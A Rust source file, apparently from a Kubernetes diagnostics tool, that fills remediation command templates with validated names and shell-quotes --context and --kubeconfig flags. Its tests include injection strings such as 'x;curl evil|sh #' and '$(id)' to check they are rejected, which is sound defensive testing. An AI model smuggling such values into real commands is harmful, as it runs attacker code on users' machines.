//! Commands that fix a fault. A reader pastes them into a shell, so nothing of the cluster gets into
//! one but names.

use serde::Serialize;

/// A command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Command(String);

/// The flags that chose the cluster.
#[derive(Debug, Clone, Default)]
pub struct ClusterFlags {
    /// `--context`
    pub context: Option<String>,
    /// `--kubeconfig`
    pub kubeconfig: Option<String>,
}

impl From<&'static str> for Command {
    fn from(text: &'static str) -> Command {
        Command(text.to_owned())
    }
}

impl Command {
    /// `template` with names in place of their placeholders. What a shell would not take for
    /// a name leaves its placeholder, for the reader to fill in.
    pub fn new(template: &'static str, names: &[(&str, &str)]) -> Command {
        let mut text = String::new();
        let mut rest = template;
        while let Some(next) = rest.chars().next() {
            let mut names = names.iter();
            let filled = names.find(|(placeholder, _)| rest.starts_with(placeholder));
            let taken = match filled {
                Some((placeholder, name)) => {
                    let is_name = is_name(name);
                    text.push_str(if is_name { name } else { placeholder });
                    placeholder.len()
                }
                None => {
                    text.push(next);
                    next.len_utf8()
                }
            };
            rest = &rest[taken..];
        }
        Command(text)
    }

    /// The text.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The same for the cluster that these flags name.
    #[must_use]
    pub fn with(&self, flags: &ClusterFlags) -> Command {
        let mut words: Vec<String> = Vec::new();
        let mut begins = true;
        for word in self.0.split(' ') {
            words.push(word.to_owned());
            let is_doctor = word == "doctor" && words.iter().rev().nth(1).is_some_and(is_podseal);
            match word {
                "kubectl" if begins => words.extend(flags.words("--context")),
                "helm" if begins => words.extend(flags.words("--kube-context")),
                _ if is_doctor => words.extend(flags.words("--context")),
                _ => {}
            }
            begins = word.ends_with(';') || matches!(word, "&&" | "||" | "|");
        }
        Command(words.join(" "))
    }
}

fn is_podseal(word: &String) -> bool {
    word == "podseal"
}

impl ClusterFlags {
    fn words(&self, context: &str) -> Vec<String> {
        let flags = [(context, &self.context), ("--kubeconfig", &self.kubeconfig)];
        let flags = flags.into_iter();
        let flags = flags.filter_map(|(flag, value)| Some((flag, value.as_ref()?)));
        flags
            .flat_map(|(flag, value)| [flag.to_owned(), word(value)])
            .collect()
    }
}

/// Whether `text` is a name, as objects, resources and service accounts have.
fn is_name(text: &str) -> bool {
    let is_part = |byte: u8| byte.is_ascii_alphanumeric() || b"-._/".contains(&byte);
    text.bytes().all(is_part) && text.starts_with(|first: char| first.is_ascii_alphanumeric())
}

/// `text` as one word for a shell.
fn word(text: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._/@:%+=,".contains(&byte);
    match !text.is_empty() && text.bytes().all(is_plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_name_takes_the_place_of_its_placeholder() {
        let of = |name| {
            let template = "kubectl get pods --namespace NAMESPACE -o name";
            Command::new(template, &[("NAMESPACE", name)])
                .as_str()
                .to_owned()
        };
        assert_eq!(of("ci"), "kubectl get pods --namespace ci -o name");
        for text in ["", "x;curl evil|sh #", "-o", "$(id)", "a\nb", "ä"] {
            assert_eq!(
                of(text),
                "kubectl get pods --namespace NAMESPACE -o name",
                "{text}"
            );
        }
    }

    #[test]
    fn a_command_is_for_the_cluster_that_was_looked_at() {
        let flags = ClusterFlags {
            context: Some("the production".to_owned()),
            kubeconfig: Some("~/it's".to_owned()),
        };
        let with = |text: &'static str, flags| Command::from(text).with(flags).0;
        assert_eq!(
            with(
                "kubectl create namespace helm; kubectl label a b && helm upgrade podseal",
                &flags
            ),
            r"kubectl --context 'the production' --kubeconfig '~/it'\''s' create namespace helm; kubectl --context 'the production' --kubeconfig '~/it'\''s' label a b && helm --kube-context 'the production' --kubeconfig '~/it'\''s' upgrade podseal"
        );
        let flags = ClusterFlags {
            context: Some("prod".to_owned()),
            kubeconfig: None,
        };
        assert_eq!(
            with("podseal doctor --try", &flags),
            "podseal doctor --context prod --try"
        );
        let text = "kubectl get nodes";
        assert_eq!(with(text, &ClusterFlags::default()), text);
    }
}
